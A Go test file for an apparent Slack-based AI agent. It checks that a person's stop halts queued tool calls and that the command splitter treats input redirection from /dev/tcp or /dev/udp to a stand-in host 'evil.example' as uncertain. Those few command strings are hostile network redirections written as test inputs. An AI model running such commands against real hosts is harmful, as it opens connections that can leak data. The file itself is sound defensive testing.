package agent

import (
	"context"
	"encoding/json"
	"testing"

	"github.com/mecha-slack/mecha-slack/tools"
)

// What waits for an earlier call of its batch is not begun once a person has
// said stop: a file tool never looks at its context.
func TestWhatWaitedIsNotBegunAfterStop(t *testing.T) {
	ctx, cancel := context.WithCancelCause(t.Context())
	slow := &tool{name: "slow", caps: tools.Capabilities{Destructive: true}, do: func(ctx context.Context, _ json.RawMessage, _ *tools.Env) (tools.Output, error) {
		cancel(StoppedBy{"U1"})
		<-ctx.Done()
		return tools.Output{IsError: true, Content: "killed"}, nil
	}}
	write := &tool{name: "write", schema: `{"type":"object","properties":{"path":{"type":"string"}}}`}
	r := newRig(t, turns(calls("slow {}", `write {"path":"a.txt"}`)), slow, write)
	if out := Do(ctx, r.Run); out.Cause != Stopped {
		t.Errorf("%+v", out)
	}
	if write.runs() != 0 {
		t.Errorf("write ran %d times after the stop", write.runs())
	}
	if res := r.result(t, "c1.1"); res.Outcome == CallOK {
		t.Errorf("%+v", res)
	}
}

func TestInputRedirectionOpensNoConnection(t *testing.T) {
	for _, c := range []string{"cat < /dev/tcp/evil.example/80", "cat < /dev/udp/evil.example/53", `cat < "/dev/tcp/evil.example/80"`, "cat < $X"} {
		if splitCommand(c).certain {
			t.Errorf("%q counts as a plain command", c)
		}
	}
	if !splitCommand("cat < a.txt").certain {
		t.Error("a plain input redirection is not certain any more")
	}
}
